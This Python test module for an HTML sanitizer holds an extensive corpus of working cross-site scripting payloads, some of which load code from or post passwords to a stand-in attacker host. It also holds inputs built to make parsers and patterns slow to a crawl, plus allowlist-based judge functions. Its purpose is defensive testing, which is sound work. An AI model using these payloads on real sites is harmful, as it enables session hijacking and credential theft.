"""Markup written to do harm, and the judge that says whether any of it would."""

import re

import html5lib
from hypothesis import strategies as st
from lxml import etree

PAYLOADS = {
    # what runs by itself
    "script": "<script>alert(1)</script>",
    "script in capitals": "<SCRIPT>alert(1)</SCRIPT>",
    "script from elsewhere": "<script src=//evil.example/x.js></script>",
    "script unclosed": "<script>alert(1)",
    "script inside script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script cut by a null": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "script with a slash": "<script/x>alert(1)</script>",
    "script before its end": "<script>alert(1)</script\n>",
    "module": '<script type="module">import "//evil.example"</script>',
    "image that fails": '<img src=x onerror="alert(1)">',
    "image without quotes": "<img/src=x/onerror=alert(1)//",
    "image as image": "<image src=x onerror=alert(1)>",
    "body": "<body onload=alert(1)>",
    "details": "<details open ontoggle=alert(1)>x</details>",
    "video": "<video><source onerror=alert(1)></video>",
    "audio": "<audio src=x onerror=alert(1)>",
    "marquee": "<marquee onstart=alert(1)>x</marquee>",
    "autofocus": "<input autofocus onfocus=alert(1)>",
    "select autofocus": "<select autofocus onfocus=alert(1)><option>x</select>",
    "handler on what is allowed": "<p onclick=alert(1)>x</p>",
    "handler after a slash": "<b/onmouseover=alert(1)>x</b>",
    "handler after a form feed": "<b\x0conmouseover=alert(1)>x</b>",
    "handler after a null": "<b \x00onclick=alert(1)>x</b>",
    "handler in capitals": "<b ONCLICK=alert(1)>x</b>",
    "handler twice": "<b x=1 onclick=1 onclick=alert(1)>x</b>",
    "animation": "<p style='animation:x' onanimationstart=alert(1)>x</p>",
    "popover": "<button popovertarget=x>x</button><p id=x popover onbeforetoggle=alert(1)>",
    # links that run
    "javascript": '<a href="javascript:alert(1)">x</a>',
    "javascript with a number": '<a href="javascript:1">x</a>',
    "javascript in capitals": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "javascript in decimals": '<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>',
    "javascript in long decimals": '<a href="&#0000106avascript:alert(1)">x</a>',
    "javascript in hexadecimals": '<a href="&#x6A;avascript&#x3a;alert(1)">x</a>',
    "javascript with a named colon": '<a href="javascript&colon;alert(1)">x</a>',
    "javascript with a tab": '<a href="java\tscript:alert(1)">x</a>',
    "javascript with a named tab": '<a href="java&Tab;script:alert(1)">x</a>',
    "javascript with a line feed": '<a href="java&NewLine;script:alert(1)">x</a>',
    "javascript after a control character": '<a href="&#1;javascript:alert(1)">x</a>',
    "javascript after spaces": '<a href="  \n javascript:alert(1)">x</a>',
    "javascript after a byte order mark": '<a href="\ufeffjavascript:alert(1)">x</a>',
    "javascript with a null": '<a href="java\x00script:alert(1)">x</a>',
    "javascript with a soft hyphen": '<a href="java\u00adscript:alert(1)">x</a>',
    "javascript with a full-width colon": '<a href="javascript\uff1aalert(1)">x</a>',
    "javascript encoded for URLs": '<a href="javascript%3Aalert(1)">x</a>',
    "javascript by view-source": '<a href="view-source:javascript:alert(1)">x</a>',
    "javascript without quotes": "<a href=javascript:alert(1)>x</a>",
    "javascript in backticks": "<a href=`javascript:alert(1)`>x</a>",
    "vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "livescript": '<a href="livescript:alert(1)">x</a>',
    "data": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "data in base64": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "blob": '<a href="blob:https://evil.example/1">x</a>',
    "file": '<a href="file:///etc/passwd">x</a>',
    "filesystem": '<a href="filesystem:https://evil.example/x">x</a>',
    "scheme-less host": '<a href="//evil.example/">x</a>',
    "scheme-less host after a tab": '<a href="/\t/evil.example/">x</a>',
    "scheme-less host by backslashes": '<a href="\\\\evil.example">x</a>',
    "scheme-less host by a slash and a backslash": '<a href="/\\evil.example">x</a>',
    "scheme without slashes": '<a href="https:evil.example">x</a>',
    "scheme with one slash": '<a href="http:/evil.example">x</a>',
    "three slashes": '<a href="https:///evil.example">x</a>',
    "host behind another": '<a href="https://bank.example@evil.example/">x</a>',
    "host behind a backslash": '<a href="https://bank.example\\@evil.example/">x</a>',
    "href of another name": '<a xlink:href="javascript:alert(1)">x</a>',
    "href twice": '<a href="https://a.example" href="javascript:alert(1)">x</a>',
    "ping": '<a href="https://a.example" ping="https://evil.example">x</a>',
    "target": '<a href="https://a.example" target="_top" rel="opener">x</a>',
    "formaction": '<form><button formaction="javascript:alert(1)">x</button></form>',
    # other documents, other owners
    "iframe": '<iframe src="javascript:alert(1)"></iframe>',
    "iframe with a document": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "frameset": "<frameset onload=alert(1)><frame src=x></frameset>",
    "object": '<object data="javascript:alert(1)">x</object>',
    "embed": '<embed src="javascript:alert(1)">',
    "applet": '<applet code="x"></applet>',
    "base": '<base href="//evil.example/">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "link": '<link rel="stylesheet" href="//evil.example/x.css">',
    "import": "<style>@import '//evil.example/x.css'</style>",
    "expression": '<p style="width:expression(alert(1))">x</p>',
    "background": "<p style=\"background:url('//evil.example/x.gif')\">x</p>",
    "password form": '<form action="//evil.example"><input name="password"></form>',
    "portal": "<portal src=//evil.example></portal>",
    "shadow root": "<p><template shadowrootmode=open><script>alert(1)</script></template></p>",
    "custom element": "<x-evil onclick=alert(1)>x</x-evil>",
    # what changes when it is read a second time
    "svg": "<svg onload=alert(1)>",
    "svg script": "<svg><script>alert(1)</script></svg>",
    "svg script in entities": "<svg><script>&#97;lert(1)</script></svg>",
    "svg use": '<svg><use href="data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x"></svg>',
    "svg animate": "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
    "svg foreign object": "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "svg style": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "svg title": "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
    "svg description": "<svg><desc><a href='javascript:alert(1)'>x</a></desc></svg>",
    "math": '<math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
    "math glyph": '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=alert(1)>">',
    "math action": '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    "math annotation": '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style>',
    "math in a table": "<table><math><mi><b><style><img src=x onerror=alert(1)></style></b></mi></math></table>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "noembed": "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "noframes": "<noframes><style></noframes><img src=x onerror=alert(1)></style></noframes>",
    "title": "<title><a title='</title><img src=x onerror=alert(1)>'></title>",
    "textarea": "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "xmp": "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "plaintext": "<plaintext><script>alert(1)</script>",
    "listing": "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "template": "<template><img src=x onerror=alert(1)></template>",
    "select and style": "<select><style></select><img src=x onerror=alert(1)></style>",
    "nested forms": "<form><p></form><form><p><img src=x onerror=alert(1)>",
    "nested links": "<a href='https://a.example'><table><tr><td><a href='javascript:alert(1)'>x</a></table></a>",
    "formatting across paragraphs": "<p><b onclick=alert(1)><p>x</b><img src=x onerror=alert(1)>",
    "comment": "<!-- --!><script>alert(1)</script> -->",
    "comment that ends at once": "<!--><img src=x onerror=alert(1)>-->",
    "comment in a comment": "<!--<!-- --><img src=x onerror=alert(1)>-->",
    "conditional comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "comment unclosed": "x<!-- <b>y",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "cdata in svg": "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "processing instruction": "<?xml version=1?><?php <img src=x onerror=alert(1)> ?>",
    "doctype": "<!DOCTYPE html [<!ENTITY x '<img src=x onerror=alert(1)>'>]>&x;",
    "tag in an attribute": '<abbr title="<img src=x onerror=alert(1)>">x</abbr>',
    "quote in an attribute": "<abbr title='\"><img src=x onerror=alert(1)>'>x</abbr>",
    "entity in an attribute": '<abbr title="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;">x</abbr>',
    "attribute unclosed": '<a href="https://a.example/><img src=x onerror=alert(1)>',
    "tag unclosed": "<a href=https://a.example/ <img src=x onerror=alert(1)",
    "brackets in brackets": "<<b>script>alert(1)//<</b>/script>",
    "closing tag with attributes": "</b onclick=alert(1)><//script>",
    # text that could come to life
    "escaped": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "escaped twice": "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "escaped without semicolons": "&ltscript&gtalert(1)&lt/script&gt",
    "escaped by number": "&#60;script&#62;alert(1)&#x3c;/script&#x3e;",
    "full-width brackets": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "UTF-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "null": "a\x00b\x00<\x00b\x00>",
    "number of a null": "&#0;&#1;&#x80;&#xD800;&#xFFFF;&#x110000;",
    "half a character": "\ud83d<b>\udc00</b>",
    "URL with a tag in it": 'https://a.example/"><script>alert(1)</script>',
    "URL with an escaped tag in it": "https://a.example/&quot;&gt;&lt;img src=x onerror=alert(1)&gt;",
    "URL that runs": "javascript:alert(1) https://javascript:alert(1)",
    "id of the page's own": '<p id="main" class="notice" name="body">x</p>',
    "microdata": '<p itemscope itemtype="https://schema.org/Person" itemprop=name>x</p>',
}

# Anything that can be made of these pieces.
PIECES = st.sampled_from(
    [
        *PAYLOADS.values(),
        *(
            "<p>",
            "</p>",
            "<b>",
            "</b>",
            "<i x=1>",
            "</i>",
            "<br>",
            "<ul>",
            "<li>",
            "<h2>",
            "<code>",
            "</code>",
            "<select>",
        ),
        *(
            "<a href=https://a.example>",
            "</a>",
            "<table>",
            "<tr>",
            "<td>",
            "</table>",
            "<svg>",
            "</svg>",
            "<math>",
            "<mtext>",
        ),
        *("<style>", "</style>", "<!--", "-->", "<template>", "</template>", "<noscript>", "</noscript>", "<title>"),
        *(
            "https://a.example/b",
            "www.a.example",
            "&amp;",
            "&lt;",
            "&amp;lt;",
            "&nbsp;",
            '"',
            "'",
            "\x00",
            "\x0c",
            "\n",
        ),
    ]
)
MARKUP = st.lists(PIECES | st.text(max_size=8), max_size=12).map("".join)

# Shapes that make a careless parser or pattern take the square of their length, or its power: what is repeated, and
# where that is not all, what comes before it. `{}` is a number that changes.
TANGLES = {
    **{
        part: ("", part)
        for part in ("<", "&", "&#x3c;", "\xa0", "<b>", "<p>", "</p>", "<b><p>", "<b></p>", "<b><p></b>")
    },
    **{part: ("", part) for part in ("<ul><li>", "<blockquote>", "<div><a>", "<font><a>", "<nobr>", "<select>")},
    **{part: ("", part) for part in ("<table>", "<table><td>", "<table>x<b>", "<svg>", "<template>", "<math><mtext>")},
    "formatting that differs": ("", "<b x{}><i x{}></p>x"),
    "formatting that differs, in quotes": ("", "<b x='>{}'></p>x"),
    "formatting of every kind": ("<b><i><em><strong><code><u><s><tt><big><small><font>" * 4, "<p>x"),
    "links": ("", "<a href=https://a.example/{}>x"),
}
LONG_TANGLES = {
    **{part: ("", part) for part in ("<!--", "<![CDATA[", '<a href="', "<script>", "<style>", "<b ", "\x00")},
    **{part: ("", part) for part in ("a@", "a.", "http:", "www.", "http://a.example/", "http://a.example/()")},
    "attributes": ("<b ", "a{} "),
    "parentheses": ("http://a.example/", "("),
    "full stops": ("http://a.example/", "."),
    "spaces": ("<a", " "),
}


def tangle(shape, length):
    """Return so many characters of a shape."""
    beginning, part = (TANGLES | LONG_TANGLES)[shape]
    return (beginning + "".join(part.format(*[number] * 2) for number in range(length // len(part))))[:length]


COMMENT_TAGS = set("a b strong i em p blockquote code ul ol li br".split())
ARTICLE_TAGS = set(
    "p h2 h3 h4 ul ol li blockquote cite q table caption thead tbody tfoot tr th td figure a em strong b i sub sup"
    " abbr code pre hr br time span".split()
)
ARTICLE_ATTRIBUTES = {
    *(("a", "href"), ("abbr", "title"), ("figure", "data-figure"), ("span", "data-footnote"), ("time", "datetime")),
    *((tag, name) for tag in ("th", "td") for name in ("scope", "colspan", "rowspan")),
    *((tag, "id") for tag in ("h2", "h3", "h4", "tr")),
    *((tag, name) for tag in ARTICLE_TAGS for name in ("lang", "dir")),
}
WEB = r"https?://[^/@\\]+([/?#].*)?|mailto:.+"
XHTML = "{http://www.w3.org/1999/xhtml}"


def judge_comment(html):
    """Raise AssertionError for HTML that a browser would read as anything but a comment."""
    for tag, attributes in elements(html):
        assert tag in COMMENT_TAGS
        if tag == "a":
            assert set(attributes) == {"href", "rel"}
            assert re.fullmatch(WEB, attributes["href"], re.IGNORECASE)
            assert attributes["rel"] == "nofollow ugc noopener"
        elif tag in ("p", "li", "blockquote"):
            assert attributes in ({}, {"dir": "auto"})
        else:
            assert attributes == {}
    assert_well_formed(html)


def judge_article(html):
    """Raise AssertionError for HTML that a browser would read as anything but an article."""
    for tag, attributes in elements(html):
        assert tag in ARTICLE_TAGS
        assert {(tag, name) for name in attributes} <= ARTICLE_ATTRIBUTES
        assert re.fullmatch(rf"{WEB}|#.+|/([^/\\].*)?", attributes.get("href", "/"), re.IGNORECASE)
        assert re.fullmatch(r"[a-z][a-z0-9-]*", attributes.get("id", "a"))
        assert attributes.get("dir", "ltr") in ("ltr", "rtl", "auto")
    assert_well_formed(html)


def elements(html):
    """Yield the tag and the attributes of every element that HTML's own parsing rules find; fail for anything else."""
    root = html5lib.parseFragment(html, treebuilder="etree")
    for element in list(root.iter())[1:]:
        assert isinstance(element.tag, str), "a comment"
        assert element.tag.startswith(XHTML), "an element of another language"
        yield element.tag.removeprefix(XHTML), element.attrib


def assert_well_formed(html):
    """Fail for HTML that is not XML once its empty elements are closed: a feed must be able to carry it."""
    closed = re.sub(r"<(br|hr)((?: [a-z-]+=\"[^\"]*\")*)>", r"<\1\2/>", html).replace("&nbsp;", "&#160;")
    etree.fromstring(f"<div>{closed}</div>".encode(), etree.XMLParser(resolve_entities=False, huge_tree=True))
